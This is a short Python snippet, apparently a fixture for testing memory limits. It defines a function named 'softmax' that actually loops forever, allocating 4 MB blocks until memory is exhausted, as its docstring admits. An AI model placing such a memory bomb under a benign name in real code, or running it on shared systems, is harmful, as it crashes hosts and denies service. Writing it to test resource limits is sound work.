"""Grows by 4 MB at a time, and really uses it."""

def softmax(x, dim):
    kept = []
    while True:
        kept.append(bytearray(b"x") * (4 << 20))
